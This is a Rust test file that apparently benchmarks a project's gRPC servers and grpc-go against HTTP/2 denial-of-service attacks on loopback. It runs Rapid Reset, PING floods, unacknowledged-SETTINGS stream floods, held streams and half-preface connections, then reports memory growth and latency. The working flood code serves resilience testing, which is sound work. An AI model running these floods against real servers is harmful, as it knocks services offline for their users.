//! The HTTP/2 attacks of issue 12, measured against our three servers and
//! the grpc-go peer's, each with its default flags and in its own process:
//! the server's RSS growth during the attack, how long a well-behaved call
//! on another connection waited meanwhile, and what the attacker saw. A
//! report, printed as a table, for finding what to bound next: `make
//! attacks` (release builds of our servers, and the Go peer). Loopback only;
//! every attack is bounded in count and time.

mod common;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use common::{connect_to, example, h2, raw, rss_bytes, within, ServerProcess};
use futures::stream::{self, StreamExt};
use grpc_stream::contract::helloworld::{AllStreamReq, ClientStreamReq};

#[derive(Clone, Copy, Debug)]
enum Pattern {
    ServerPush,
    ClientPush,
    BothWays,
}

impl Pattern {
    fn program(self) -> &'static str {
        match self {
            Pattern::ServerPush => "server_stream_server",
            Pattern::ClientPush => "client_stream_server",
            Pattern::BothWays => "all_stream_server",
        }
    }

    fn path(self) -> &'static str {
        match self {
            Pattern::ServerPush => "/helloworld.ServerStreamServer/ServerStream",
            Pattern::ClientPush => "/helloworld.ClientStreamServer/ClientStream",
            Pattern::BothWays => "/helloworld.AllStreamServer/AllStream",
        }
    }
}

#[derive(Clone, Copy, Debug)]
enum Attack {
    /// One connection, 20,000 HEADERS + RST_STREAM pairs.
    RapidReset,
    /// 4 connections each open a stream, never read, send 10,000 PINGs.
    PingFlood,
    /// One connection that never ACKs SETTINGS opens 3,048 streams.
    UnackedSettings,
    /// 3 connections × 1,000 streams: HEADERS and never a message.
    HeldStreams,
    /// 500 connections send half the preface and stall.
    HalfPreface,
}

/// A request message as DATA on `stream` (gRPC-framed), ending the stream
/// when `end`.
fn request(stream: u32, end: bool) -> Vec<u8> {
    let message = raw::message(b"1");
    let mut payload = h2::grpc_prefix(message.len() as u32);
    payload.extend(message);
    h2::frame(0x0, u8::from(end), stream, &payload)
}

fn opened(addr: &str, ack: bool) -> TcpStream {
    let mut socket = TcpStream::connect(addr).expect("connect");
    let mut opening = h2::PREFACE.to_vec();
    opening.extend(h2::settings());
    if ack {
        opening.extend(h2::settings_ack());
    }
    socket.write_all(&opening).expect("preface");
    socket
}

/// What came back on `socket` within `wait`: frame counts by kind.
fn seen(mut socket: &TcpStream, wait: Duration) -> String {
    socket.set_read_timeout(Some(wait)).ok();
    let mut bytes = Vec::new();
    let mut buf = [0u8; 64 * 1024];
    let deadline = Instant::now() + wait;
    let closed = loop {
        if Instant::now() >= deadline {
            break false;
        }
        match socket.read(&mut buf) {
            Ok(0) => break true,
            Ok(n) => bytes.extend_from_slice(&buf[..n]),
            Err(e)
                if e.kind() == std::io::ErrorKind::WouldBlock
                    || e.kind() == std::io::ErrorKind::TimedOut =>
            {
                break false
            }
            Err(_) => break true,
        }
    };
    let (mut headers, mut resets, mut goaway) = (0, 0, None);
    let mut at = 0;
    while at + 9 <= bytes.len() {
        let len = (usize::from(bytes[at]) << 16)
            | (usize::from(bytes[at + 1]) << 8)
            | usize::from(bytes[at + 2]);
        match bytes[at + 3] {
            0x1 => headers += 1,
            0x3 => resets += 1,
            0x7 if at + 17 <= bytes.len() => {
                goaway = Some(u32::from_be_bytes([
                    bytes[at + 13],
                    bytes[at + 14],
                    bytes[at + 15],
                    bytes[at + 16],
                ]))
            }
            _ => {}
        }
        at += 9 + len;
    }
    let goaway = goaway.map_or(String::new(), |code| format!(", GOAWAY {code}"));
    let closed = if closed { ", closed" } else { "" };
    format!("{headers} HEADERS, {resets} RST_STREAM{goaway}{closed}")
}

/// Runs `attack` on `addr`, calling `begun` once its first frames are out;
/// what the attacker saw.
fn attack(attack: Attack, pattern: Pattern, addr: &str, begun: impl Fn()) -> String {
    let path = pattern.path();
    let end = matches!(pattern, Pattern::ServerPush);
    match attack {
        Attack::RapidReset => {
            let mut socket = opened(addr, true);
            for batch in 0..100u32 {
                let mut frames = Vec::new();
                for i in 0..200 {
                    let stream = 1 + 2 * (batch * 200 + i);
                    frames.extend(h2::headers(stream, path));
                    frames.extend(h2::rst_stream(stream, 8));
                }
                if socket.write_all(&frames).is_err() {
                    return format!("write refused after {} pairs", batch * 200);
                }
                if batch == 0 {
                    begun();
                }
            }
            seen(&socket, Duration::from_secs(2))
        }
        Attack::PingFlood => {
            let sockets: Vec<TcpStream> = (0..4)
                .map(|_| {
                    let mut socket = opened(addr, true);
                    let mut frames = h2::headers(1, path);
                    frames.extend(request(1, end));
                    let _ = socket.write_all(&frames);
                    socket
                })
                .collect();
            begun();
            let mut sent = 0;
            for mut socket in sockets.iter() {
                for opaque in 0..10_000u64 {
                    if socket.write_all(&h2::ping(opaque)).is_err() {
                        break;
                    }
                    sent += 1;
                }
            }
            // All stay open while the last is read.
            let last = sockets.last().expect("a socket");
            format!("{sent} PINGs sent; {}", seen(last, Duration::from_secs(1)))
        }
        Attack::UnackedSettings => {
            let mut socket = opened(addr, false);
            let mut frames = Vec::new();
            for i in 0..3048u32 {
                frames.extend(h2::headers(1 + 2 * i, path));
                frames.extend(request(1 + 2 * i, end));
            }
            let _ = socket.write_all(&frames);
            begun();
            seen(&socket, Duration::from_secs(3))
        }
        Attack::HeldStreams => {
            let sockets: Vec<TcpStream> = (0..3)
                .map(|_| {
                    let mut socket = opened(addr, true);
                    let frames: Vec<u8> = (0..1000u32)
                        .flat_map(|i| h2::headers(1 + 2 * i, path))
                        .collect();
                    let _ = socket.write_all(&frames);
                    socket
                })
                .collect();
            begun();
            // All stay open while the last is read.
            let last = sockets.last().expect("a socket");
            seen(last, Duration::from_secs(3))
        }
        Attack::HalfPreface => {
            let started = Instant::now();
            let mut sockets: Vec<TcpStream> = (0..500)
                .filter_map(|_| TcpStream::connect(addr).ok())
                .collect();
            for socket in &mut sockets {
                let _ = socket.write_all(&h2::PREFACE[..12]);
            }
            begun();
            let open = sockets
                .iter()
                .filter(|socket| {
                    let mut socket: &TcpStream = socket;
                    // Past our default handshake timeout (10 s).
                    let left = Duration::from_secs(12).saturating_sub(started.elapsed());
                    socket
                        .set_read_timeout(Some(left.max(Duration::from_millis(1))))
                        .ok();
                    let mut buf = [0u8; 256];
                    loop {
                        match socket.read(&mut buf) {
                            Ok(0) => return false,
                            Ok(_) => continue,
                            Err(e)
                                if e.kind() == std::io::ErrorKind::WouldBlock
                                    || e.kind() == std::io::ErrorKind::TimedOut =>
                            {
                                return true
                            }
                            Err(_) => return false,
                        }
                    }
                })
                .count();
            format!("{open} of 500 still open after 12 s")
        }
    }
}

/// A well-behaved call of `pattern` on its own connection: time to its
/// first answer, or why there was none within 5 s.
fn normal_call(pattern: Pattern, addr: &str) -> String {
    let started = Instant::now();
    let client = connect_to(addr, Some(Duration::from_secs(5)));
    let answered = within(Duration::from_secs(10), async {
        match pattern {
            Pattern::ServerPush => client
                .server_stream("1".into())?
                .next()
                .await
                .transpose()
                .map(|_| ()),
            Pattern::ClientPush => client
                .client_stream(stream::iter([ClientStreamReq::from("1")]))
                .await
                .map(|_| ()),
            Pattern::BothWays => client
                .all_stream(stream::iter([AllStreamReq::from("1")]))?
                .next()
                .await
                .transpose()
                .map(|_| ()),
        }
    });
    match answered {
        Ok(()) => format!("{} ms", started.elapsed().as_millis()),
        Err(e) => format!(
            "{} ({} ms)",
            grpc_stream::code_name(e.code()),
            started.elapsed().as_millis()
        ),
    }
}

/// When the well-behaved call starts, after the attack's first frames.
const INTO_THE_ATTACK: Duration = Duration::from_millis(500);

/// One attack on a fresh server: (RSS growth MiB, normal call, attacker saw).
fn measure(server: ServerProcess, pattern: Pattern, which: Attack) -> (f64, String, String) {
    let pid = server.pid();
    let before = rss_bytes(pid);
    let sampling = Arc::new(AtomicBool::new(true));
    let sampler = {
        let sampling = Arc::clone(&sampling);
        std::thread::spawn(move || {
            let mut peak = 0;
            while sampling.load(Ordering::Relaxed) {
                peak = peak.max(rss_bytes(pid));
                // The sampling period.
                within(
                    Duration::from_secs(1),
                    futures_timer::Delay::new(Duration::from_millis(20)),
                );
            }
            peak
        })
    };
    let addr = server.addr.clone();
    let (began, begun) = std::sync::mpsc::channel();
    let attacker = std::thread::spawn(move || {
        attack(which, pattern, &addr, || {
            let _ = began.send(());
        })
    });
    // The normal call starts half a second into the attack (the scenario:
    // the server has had time to take in what the attacker sent).
    let _ = begun.recv_timeout(Duration::from_secs(30));
    within(
        Duration::from_secs(5),
        futures_timer::Delay::new(INTO_THE_ATTACK),
    );
    let normal = normal_call(pattern, &server.addr);
    let saw = attacker
        .join()
        .unwrap_or_else(|_| "the attacker panicked".into());
    sampling.store(false, Ordering::Relaxed);
    let peak = sampler.join().expect("sampler");
    let growth = peak.saturating_sub(before) as f64 / (1 << 20) as f64;
    (growth, normal, saw)
}

#[test]
#[ignore = "a report, with the Go peer: make attacks"]
fn attacks_against_our_servers_and_grpc_go() {
    let go_bin = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("interop/go/bin");
    // Our programs: release builds when `make attacks` says where.
    let ours = |program: &str| match std::env::var_os("ATTACK_PROGRAMS") {
        Some(dir) => std::path::PathBuf::from(dir).join(program),
        None => example(program),
    };
    // Narrowing for investigation: ATTACKS=RapidReset,PingFlood, ATTACK_SERVERS=ours,
    // ATTACK_SERVER_ARGS="--flag value" (ours only).
    let wanted = |var: &str, name: &str| {
        std::env::var(var).map_or(true, |list| list.split(',').any(|item| item == name))
    };
    let extra: Vec<String> = std::env::var("ATTACK_SERVER_ARGS")
        .map(|args| args.split_whitespace().map(String::from).collect())
        .unwrap_or_default();
    println!("\n| attack | server | RSS growth | a normal call meanwhile | the attacker saw |");
    println!("|---|---|---:|---|---|");
    for which in [
        Attack::RapidReset,
        Attack::PingFlood,
        Attack::UnackedSettings,
        Attack::HeldStreams,
        Attack::HalfPreface,
    ] {
        for pattern in [Pattern::ServerPush, Pattern::ClientPush, Pattern::BothWays] {
            if !wanted("ATTACKS", &format!("{which:?}")) {
                continue;
            }
            let mut own = Command::new(ours(pattern.program()));
            own.args(&extra);
            for (who, command) in [
                ("ours", own),
                ("grpc-go", Command::new(go_bin.join(pattern.program()))),
            ] {
                if !wanted("ATTACK_SERVERS", who) {
                    continue;
                }
                let server = ServerProcess::spawn(command);
                let (growth, normal, saw) = measure(server, pattern, which);
                println!("| {which:?} | {who} {pattern:?} | +{growth:.0} MiB | {normal} | {saw} |");
            }
        }
    }
}
